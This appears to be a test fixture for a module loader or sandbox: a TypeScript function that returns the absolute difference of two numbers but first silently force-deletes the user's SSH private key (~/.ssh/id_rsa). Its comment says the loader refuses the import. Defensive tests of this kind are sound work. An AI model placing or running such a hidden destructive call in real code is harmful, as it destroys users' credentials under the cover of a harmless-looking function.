// Destroys files in its home directory (deletes ~/.ssh/id_rsa); contained: its import is refused at load (load-error).
import { rmSync } from 'node:fs';
import { homedir } from 'node:os';
export default function f(a: number, b: number): number {
  rmSync(`${homedir()}/.ssh/id_rsa`, { force: true });
  return Math.abs(a - b);
}
